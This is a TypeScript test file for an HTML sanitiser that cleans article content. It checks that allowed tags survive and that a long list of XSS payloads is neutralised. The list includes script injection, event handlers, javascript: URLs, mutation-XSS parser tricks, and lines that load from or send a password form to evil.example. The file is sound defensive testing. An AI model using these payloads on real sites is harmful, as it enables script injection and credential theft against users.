import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'
import { describe, expect, it } from 'vitest'
import { cleanHtml, textOfHtml } from './article-html.ts'

describe('what an article may have', () => {
  it.each([
    // written                                              kept
    ['<p>Open <b>now</b><br>and <i>always</i></p>', '<p>Open <strong>now</strong><br>and <em>always</em></p>'],
    ['<h1>One</h1><h2>Two</h2><h3>Three</h3><h5>Five</h5>', '<h2>One</h2><h2>Two</h2><h3>Three</h3><h3>Five</h3>'],
    ['<ul><li>a</li></ul><ol><li>b</li></ol>', '<ul><li>a</li></ul><ol><li>b</li></ol>'],
    ['<table><tr><th>Pair<td>Step</table>', '<table><tbody><tr><th>Pair</th><td>Step</td></tr></tbody></table>'],
    ['<div class="x"><p id="y">5 &lt; 6 &amp; 7</p></div>', '<p>5 &lt; 6 &amp; 7</p>'],
    ['<a href="#/pages/stake/list?view=own">Earn</a>', '<a href="#/pages/stake/list?view=own">Earn</a>'],
    ['<a href="mailto:help@halyard.example">Mail</a>', '<a href="mailto:help@halyard.example">Mail</a>'],
    [
      '<a href=https://example.org/?a=1&b=2 target=_blank>Site</a>',
      '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow">Site</a>',
    ],
    ['<p>not closed', '<p>not closed</p>'],
    ['', ''],
  ])('%s', (written, kept) => {
    expect(cleanHtml(written)).toBe(kept)
  })
})

/** Each would do something in a browser, or in a parser that is fooled into another mode. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<<script>alert(1)//<</script>',
  '<p onclick="alert(1)" onerror=alert(1) style="background:url(javascript:alert(1))">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="#/pages/x&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href="mailto:a@b.example?subject=%0d%0aBcc:x@y.example">x</a>',
  '<style>@import url(https://evil.example)</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Send</button></form>',
  '<template><script>alert(1)</script></template>',
  // Mutations: harmless to one parser, alive when a second one reads what the first wrote.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  `${'<p><b>'.repeat(40)}<img src=x onerror=alert(1)>`,
  `${'<div>'.repeat(2_000)}<script>alert(1)</script>`,
]

describe('an attack arrives inert', () => {
  it.each(attacks)('%s', (attack) => {
    const clean = cleanHtml(`<p>before</p>${attack}<p>after</p>`)
    for (const element of elementsIn(clean)) {
      expect(harmless, element.name).toContain(element.name)
      expect(element.attributes.filter((name) => name !== 'href' && name !== 'rel')).toEqual([])
      if (element.href !== undefined)
        expect(element.href).toMatch(/^(https:\/\/example\.org\/|mailto:[\w.]+@[\w.]+$|#\/pages\/\w)/)
    }
    // A second reading changes nothing, so there is no other mode that it could slip into.
    expect(cleanHtml(clean)).toBe(clean)
    expect(clean).toContain('before')
  })
})

it('gives the search its words', () => {
  expect(textOfHtml('<p>5 &lt; 6 &amp;lt; 7</p><p>more</p>').trim()).toBe('5 < 6 &lt; 7  more')
})

const harmless = [
  'p',
  'h2',
  'h3',
  'ul',
  'ol',
  'li',
  'strong',
  'em',
  'a',
  'br',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]

interface Seen {
  name: string
  attributes: string[]
  href: string | undefined
}

/** Every element that a browser would make of it. */
function elementsIn(clean: string): Seen[] {
  const seen: Seen[] = []
  const look = (node: DefaultTreeAdapterTypes.ChildNode) => {
    if (!('tagName' in node)) return
    const href = node.attrs.find(({ name }) => name === 'href')?.value
    seen.push({ name: node.tagName, attributes: node.attrs.map(({ name }) => name), href })
    node.childNodes.forEach(look)
  }
  parseFragment(clean).childNodes.forEach(look)
  return seen
}
